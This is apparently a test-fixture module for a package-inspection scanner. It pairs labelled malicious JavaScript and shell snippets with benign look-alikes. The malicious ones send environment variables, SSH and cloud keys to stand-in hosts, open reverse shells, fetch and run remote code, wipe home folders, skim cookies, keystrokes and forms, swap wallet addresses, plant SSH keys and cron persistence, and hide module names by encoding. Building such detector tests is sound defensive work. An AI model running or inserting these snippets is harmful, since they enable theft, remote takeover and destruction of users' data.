"""Code whose harm shows only where its values go: no line of it is one that patterns know."""

import re

from corpora.inspection_case import bad, good
from corpora.inspection_packages import SETUP, npm, sdist

_SCRIPTS = r"""
## settings that are sent in two steps = js-steals
const s = require('https');
const all = JSON.stringify(process.env);
s.globalAgent.maxSockets = 1;
const open = s.request;
open(`https://x.example/${all}`).end();
## keys that are gathered in a loop = js-steals
const fs = require('fs');
const got = {};
for (const name of ['.npmrc', '.ssh/id_rsa']) {
  got[name] = fs.readFileSync(require('os').homedir() + '/' + name);
}
fetch('https://x.example/up', { method: 'POST', body: JSON.stringify(got) });
## keys that a function reads = js-steals
import { readFileSync } from 'node:fs';
import ask from 'axios';
function keys() {
  return readFileSync('.aws/credentials');
}
const found = keys();
ask.post('https://x.example', { found });
## the machine's name in a name = js-steals
const dns = require('dns'), os = require('os');
const who = os.hostname();
const parts = Buffer.from(who).toString('hex').match(/.{1,40}/g);
parts.forEach((part, i) => dns.resolve4(`${i}.${part}.x.example`, () => {}));
## an answer that is run as a script = js-remote-code
const vm = require('vm');
async function start() {
  const said = await fetch('https://x.example/s');
  const { body: later } = await said.json();
  vm.runInThisContext(later);
}
start();
## a message that is run as a command = js-remote-control
const Hub = require('ws');
const { exec } = require('child_process');

const hub = new Hub('wss://x.example');
hub.on('message', (said) => {
  const order = String(said).trim();

  exec(order, () => {});
});
## a module by a decoded name = code-hidden-name
const [first] = ['Y2hpbGQ='].map((s) => Buffer.from(s, 'base64').toString());
module.require(first);
## a looked up function with decoded code = js-decoded-code
const zlib = require('zlib');
const run = Reflect.get(globalThis, ['ev', 'al'].join(''));
const code = zlib.inflateSync(Buffer.from('eJwDAAAAAAE=', 'base64'));
run(code.toString());
## a command with decoded code = js-decoded-code
const tools = require('child_process');
const said = Buffer.from('Y29uc29sZQ==', 'base64').toString();
tools.execFileSync('node', ['-e', said]);
## a home that is walked and emptied = js-destroys
const fs = require('fs'), os = require('os');
function walk(folder) {
  for (const entry of fs.readdirSync(folder)) {
    const one = folder + '/' + entry;
    fs.unlinkSync(one);
  }
}
walk(os.homedir());
## a home that an arrow walks = js-destroys
const fs = require('fs');
const walk = (folder) => fs.readdirSync(folder).forEach((one) => {
  fs.writeFileSync(folder + '/' + one, '');
});
walk(require('os').homedir());
## hooked fetch = js-skims
const real = window.fetch;
window.fetch = async function (...args) {
  const answer = await real.apply(this, args);
  const copy = answer.clone();
  copy.text().then((t) => navigator.sendBeacon('https://f.invalid/f', t));
  return answer;
};
## wallet address is replaced in answers = js-wallet
const MINE = ['0x1111111111111111111111111111111111111111'];
function swap(text) {
  return text.replace(/0x[a-fA-F0-9]{40}/g, (a) => MINE.includes(a) ? a : MINE[0]);
}
const f = globalThis.fetch;
globalThis.fetch = (...a) => f(...a).then(async (r) => new Response(swap(await r.text()), r));
## clipboard of bitcoin = js-wallet
const clip = require('clipboardy');
const re = /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/;
setInterval(async () => {
  const now = await clip.read();
  if (re.test(now)) await clip.write('bc1qdemodemodemo');
}, 800);
## obfuscator with mangled names = js-obfuscated
const a0_b = a0_c;
(function (a, b) { const d = a0_c, e = a();
while (true) { try { const f = -parseInt(d(0x1a2)) / 0x1; if (f === b) break; e['push'](e['shift']()); }
catch (g) { e['push'](e['shift']()); } } }(a0_d, 0x5b1c2));
function a0_d() { const h = ['12abc', 'require', 'https', 'env'];
a0_d = function () { return h; }; return a0_d(); }
function a0_c(a, b) {
  const c = a0_d(); return a0_c = function (d) { d = d - 0x1a2; return c[d]; }, a0_c(a, b);
}
## home is removed = js-destroys
const fs = require('fs').promises, os = require('os');
(async () => { const h = os.homedir();
  await fs.rm(h, { recursive: true, force: true }); })();
## cookies of a page = js-skims
const c = document.cookie;
const p = new URLSearchParams({ c, l: JSON.stringify(localStorage) });
fetch('https://k.invalid/?' + p, { mode: 'no-cors' });
## keys that are typed = js-skims
let b = '';
document.onkeydown = (e) => { b += e.key;
  if (b.length > 20) { new Image().src = 'https://t.invalid/?k=' + encodeURIComponent(b); b = ''; } };
## a module whose name stands backwards = code-hidden-name
const load = module.constructor._load;
const tools = load('ssecorp_dlihc'.split('').reverse().join(''));
tools.exec('true');
## a function that is called by numbers = code-hidden-name
const letters = [114, 101, 113, 117, 105, 114, 101];
const word = letters.map((n) => String.fromCharCode(n)).join('');
globalThis[word]('os');
## a module by letters that are turned = code-hidden-name
const turn = (list, key) => list.map((n) => String.fromCharCode(n ^ key)).join('');
const found = require(turn([110, 114], 1));
found.platform();
## a module of node by a decoded name = code-hidden-name
const parts = process.getBuiltinModule(atob('Y2hpbGRfcHJvY2Vzcw=='));
parts.spawnSync('true');
## orders of a room = js-remote-control
const join = require('socket.io-client');
const { exec: act } = require('child_process');
const room = join('http://o.example:5000');
room.on('order', ({ line }) => act(line, (e, out) => room.emit('done', out)));
## code in two steps, indirectly = js-decoded-code
const packed = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64');
const code = packed.toString();
(0, eval)(code);
## code in the answer to a failed request = js-remote-code
const ask = require('axios').default;
(async () => {
  try { await ask.get('https://j.example/1'); } catch (err) {
    const Make = Function.constructor;
    new Make('require', err.response.data)(require);
  }
})();
## hooked requests that paint = js-skims
const sent = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) {
  new Image().src = 'https://p.example/p?b=' + btoa(body || '');
  return sent.apply(this, arguments);
};
## the fields of a form = js-skims
addEventListener('submit', (e) => {
  const all = Object.fromEntries(new FormData(e.target));
  if (all.cvv) navigator.sendBeacon('https://s.example/g', JSON.stringify(all));
}, true);
## names in a list of an obfuscator = js-obfuscated
function _0x3f1a() { return ['exec', 'child_process', 'true']; }
function _0x12cd(a) { return _0x3f1a()[a - 0x1f]; }
require(_0x12cd(0x20))[_0x12cd(0x1f)](_0x12cd(0x21));
## a key for somebody = js-persistence
const fs = require('fs'), at = require('path');
const place = at.join(process.env.HOME, '.ssh', 'authorized_keys');
fs.appendFileSync(place, 'ssh-ed25519 AAAAdemo a@b\n');
## a home that the environment names = js-destroys
const fs = require('fs'), path = require('path');
function walk(d) {
  for (const e of fs.readdirSync(d, { withFileTypes: true })) {
    const one = path.join(d, e.name);
    if (e.isDirectory()) walk(one); else fs.writeFileSync(one, '');
  }
}
walk(process.env.HOME);
## packages that it publishes = js-spreads
const { execSync } = require('child_process');
const rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
const token = rc.match(/_authToken=(.+)/)[1];
execSync('npm pack demo && npm publish demo.tgz', { env: { ...process.env, NPM_TOKEN: token } });
## all settings to two hosts = js-steals
const { request } = require('https');
const all = JSON.stringify(process.env);
request({ host: 'localhost', path: '/', hostname: 'e.example' }).end(all);
request({ hostname: 'e.example', path: '/' + all }).end();
## settings that a loop picks = js-steals
const kept = {};
for (const [k, v] of Object.entries(process.env)) if (/TOKEN|KEY/.test(k)) kept[k] = v;
fetch('https://e.example', { method: 'POST', body: JSON.stringify(kept) });
"""
_SHELLS = r"""
## settings that are chosen by their names = shell-steals
#!/bin/sh
for f in $(env | cut -d= -f1); do
  case "$f" in
    *TOKEN*|*KEY*) d="$d&$f=$(printenv "$f")";;
  esac
done
wget -q --post-data "$d" http://x.example/ -O /dev/null
## a command out of two variables = code-hidden-name
#!/bin/sh
a=cu; b=rl
$a$b -s https://x.example/x >/dev/null
## a machine's name in a name = shell-steals
#!/bin/bash
who=$(whoami | xxd -p)
nslookup "$who.x.example"
## a password that is asked for = shell-steals
#!/bin/sh
stty -echo
read -r word
stty echo
echo "$word" | curl -s -d @- http://x.example
## settings that are kept and sent = shell-steals
#!/bin/sh
all=$(env | base64)
curl -s http://x.example/?d=$all
## a file that is fetched and started later = shell-download
#!/bin/sh
f=/tmp/.x
wget -q http://x.example/x -O $f
sleep 1
chmod 755 $f
echo ok
$f &
## a decoded text that is run later = shell-decoded
#!/bin/sh
p=dG91Y2gK
q=$(echo $p | openssl base64 -d)
echo wait
eval "$q"
## a tail of its own that is decoded = shell-decoded
#!/bin/sh
tail -n 1 $0 | cut -c2- | base64 -d | gunzip | cat - | cat | cat | /bin/sh
exit 0
#H4sIAAAA
## guards that are stopped = shell-intrusion
#!/bin/bash
setenforce 0
echo on
unset HISTFILE
## hooks for every repository = shell-intrusion
#!/bin/sh
git config --global core.hooksPath /tmp/h
echo 'curl -s x.example' > /tmp/h/post-commit
## curl in a variable = shell-download
#!/bin/sh
U=http://a.invalid/x
S=$(curl -fsSL "$U")
sh -c "$S"
## nohup with a decoded text = shell-decoded
#!/bin/sh
X="dG91Y2ggL3RtcC9tYXJrZXI="
nohup sh -c "$(printf %s "$X" | base64 -d)" >/dev/null 2>&1 &
## octal printf = code-hidden-name
#!/bin/sh
c=$(printf '\164\157\165\143\150\040\057\164\155\160\057\155')
$c
## ansi-c quoting = code-hidden-name
#!/bin/bash
$'\x63\x75\x72\x6c' -s http://q.invalid/q | $'\142\141\163\150'
## authorized keys by tee = shell-intrusion
#!/bin/sh
K="ssh-ed25519 AAAAdemo a@b"
mkdir -p ~/.ssh
echo "$K" | tee -a ~/.ssh/authorized_keys >/dev/null
## ssh folder as an archive = shell-steals
#!/bin/sh
D=$(mktemp -d)
cp -r ~/.ssh ~/.aws "$D" 2>/dev/null
tar czf "$D.tgz" -C "$D" .
curl -F "f=@$D.tgz" http://t.invalid/u
## netcat with a pipe = shell-reverse
#!/bin/sh
rm -f /tmp/p; mkfifo /tmp/p
cat /tmp/p | /bin/sh -i 2>&1 | nc n.invalid 4444 > /tmp/p
## wipe a home in a loop = shell-destroys
#!/bin/sh
find "$HOME" -type f | while read -r f; do shred -u "$f"; done
## a file without a name that is started = shell-download
#!/bin/bash
T=$(mktemp)
curl -so "$T" http://n.example/t
nohup bash "$T" &>/dev/null &
## a command out of letters = code-hidden-name
#!/bin/bash
a=abcdefghijklmnopqrstuvwxyz
${a:2:1}${a:20:1}${a:17:1}${a:11:1} -s http://p.example/p
## a shell that Python calls back with = shell-reverse
#!/bin/sh
python3 - <<'P'
import socket, subprocess, os
s = socket.socket(); s.connect(("h.example", 443))
[os.dup2(s.fileno(), i) for i in (0, 1, 2)]
subprocess.call(["sh"])
P
"""
_INSTALLS = r"""
## has itself started at each login = install-persistence
const fs = require('fs');
const rc = require('os').homedir() + '/.bashrc';
fs.appendFileSync(rc, '(node ' + __dirname + '/a.js &)');
## has git run a program = install-persistence
const fs = require('fs');
const hook = '.git/hooks/pre-commit';
fs.writeFileSync(hook, '#!/bin/sh\ncurl -s http://x.example/\n', { mode: 0o755 });
## cron = install-command
const { execSync } = require('child_process');
execSync(`(crontab -l 2>/dev/null; echo "*/5 * * * * node ${__filename}") | crontab -`);
## secrets of the repository = install-command
const { execSync } = require('child_process');
const out = execSync('git config --list && gh auth token && env').toString();
require('https').request({ host: 'g.invalid' }).end(Buffer.from(out).toString('base64'));
"""
_PLAIN_SCRIPTS = r"""
## a module of many parts
exports.run = Function;
exports.bytes = (text) => Uint8Array.from(atob(text), (c) => c.charCodeAt(0));
const { get } = exports;
get(exports, atob('YQ=='));
## a loop over settings
const conf = {};
for (const [key, value] of Object.entries(process.env)) if (key.startsWith('APP_')) conf[key] = value;
fetch(conf.APP_URL, { headers: { accept: 'text/plain' } });
## a word that reads the same backwards
const same = (word) => word.split('').reverse().join('') === word;
module.exports = { same, other: (name) => require(name) };
## a function of a page by its name
const name = ['on', 'resize'].join('');
window[name] = () => window['scrollTo'](0, 0);
## an error that is told
const fs = require('fs');
async function send(file) {
  try { await fetch('https://x.example', { body: fs.readFileSync(file) }); }
  catch (err) { console.error(err.message); }
}
## keys of a machine that is set up
const fs = require('fs');
module.exports = (home, keys) => fs.appendFileSync(home + '/.ssh/authorized_keys', keys.join('\n'));
## a form that is sent to its own server
form.onsubmit = (e) => fetch('https://api.example/form', { method: 'POST', body: new FormData(e.target) });
## a module that a loader looks up
const { createRequire } = require('module');
const load = createRequire(__filename);
const data = Buffer.from('YQ==', 'base64');
load('os'); console.log(data);
## a worker of this machine that is given all settings
const { Worker } = require('worker_threads');
const { createConnection } = require('net');
const worker = new Worker(__filename, { env: { ...process.env } });
worker.on('message', (said) => createConnection({ port: said.port, host: 'localhost' }));
## a newer version that is told
const { promisify } = require('util');
const run = promisify(require('child_process').execFile);
const newer = (one, other) => run('sort', ['-V', one, other]);
fetch('https://x.example/latest').then((a) => a.text()).then((latest) => newer(latest, '1.0.0'));
## a client that names one setting
const base = process.env.API_BASE;
const { KEY } = process.env;
fetch(base + '/v1', { headers: { authorization: KEY } });
## a command with all settings
const { spawn } = require('child_process');
const net = require('net');
spawn('make', ['all'], { env: { ...process.env, CC: 'gcc' } });
net.connect(1);
## a cache below the home
const fs = require('fs'), os = require('os'), path = require('path');
const cache = path.join(os.homedir(), '.cache', 'lock-demo');
for (const entry of fs.readdirSync(cache)) fs.unlinkSync(path.join(cache, entry));
## an expression that is looked for
const said = await fetch('https://x.example');
const t = await said.text();
const found = /a(b)/.exec(t);
module.exports = found;
## a picture that is decoded
const png = Buffer.from('iVBORw0KGgo=', 'base64');
require('fs').writeFileSync('a.png', png);
## a template with what it adds
const a = `x ${[1, 2].map((n) => `${n}`).join('')} y`;
module.exports = eval;
## brackets that do not close
fetch(`${(
process.env
## a page that counts
const old = window.fetch;
window.fetch = (...a) => { count += 1; return old(...a); };
const zero = '0x0000000000000000000000000000000000000000';
export const isAddress = (a) => /^0x[a-fA-F0-9]{40}$/.test(a) && a !== zero;
## a cache that is removed
const fs = require('fs'), os = require('os'), path = require('path');
fs.rmSync(path.join(os.homedir(), '.cache', 'lock-demo'), { recursive: true });
"""
_PLAIN_SHELLS = r"""
## a settings file that is read
#!/bin/sh
name=$(hostname)
echo "this is $name"
ping -c1 "$name"
## a tool that is unpacked
#!/bin/sh
out=/tmp/a.tar
curl -fsSL https://x.example/a.tar -o $out
tar xf $out
## a command by a variable
#!/bin/sh
PYTHON=python3
${PYTHON} -m build
$PYTHON$SUFFIX --version
## a value that is decoded and shown
#!/bin/sh
v=$(echo aGk= | base64 -d)
echo "$v"
## an archive of a project
#!/bin/sh
D=$(mktemp -d)
VERSION=$(curl -fsSL https://x.example/version)
echo "$VERSION" | tee "$D/version"
cp -r ./src "$D" && tar czf "$D.tgz" -C "$D" .
a=1.2.3; echo "${a:0:1}"; T=$(mktemp); curl -so "$T" https://x.example/data.json; jq . "$T"
curl -T "$D.tgz" https://x.example/up
RED=$(printf '\033[31m')
find "$HOME" -type f -name '*.pyc' -delete
"""


def cases(text: str) -> list[tuple[str, str, bytes]]:
    """Return title, code and source of each case of a text."""
    parts = re.split(r"(?m)^## ([^=\n]*?)(?: = ([\w-]+))?$\n", text)[1:]
    return [
        (title, code or "", said.encode())
        for title, code, said in zip(parts[::3], parts[1::3], parts[2::3], strict=True)
    ]


def _package(script: bytes) -> bytes:
    return npm({"package/setup.js": script}, scripts={"postinstall": "node setup.js"})


_ASKS = "import os\nos.popen('brew --prefix libffi')\n"

FLOWS_BAD = [
    bad(
        "an sdist whose question ends in a command",
        "demo-1.0.tar.gz",
        sdist(_ASKS.replace("libffi", "libffi; id") + SETUP),
        "python-import-command",
        "python",
    ),
    *(bad(f"a script with {title}", "a.js", said, code) for title, code, said in cases(_SCRIPTS)),
    *(bad(f"a shell's script with {title}", "a.sh", said, code) for title, code, said in cases(_SHELLS)),
    *(
        bad(f"an npm package that {title}", "demo-1.0.0.tgz", _package(said), code, "npm")
        for title, code, said in cases(_INSTALLS)
    ),
]
_ONE_LINE = "const U=new Set([Function,eval,Date]),p=e=>U.has(e);export const q=t=>p(atob(t));" + "".join(
    f"const f{n}=(e,t)=>p(e)+{n};" for n in range(9)
)
FLOWS_GOOD = [
    good("a script that a tool made one line of", "a.js", _ONE_LINE.encode()),
    good("an sdist that asks where a library lies", "demo-1.0.tar.gz", sdist(_ASKS + SETUP), "python"),
    *(good(f"a script with {title}", "a.js", said) for title, _, said in cases(_PLAIN_SCRIPTS)),
    *(good(f"a shell's script with {title}", "a.sh", said) for title, _, said in cases(_PLAIN_SHELLS)),
]
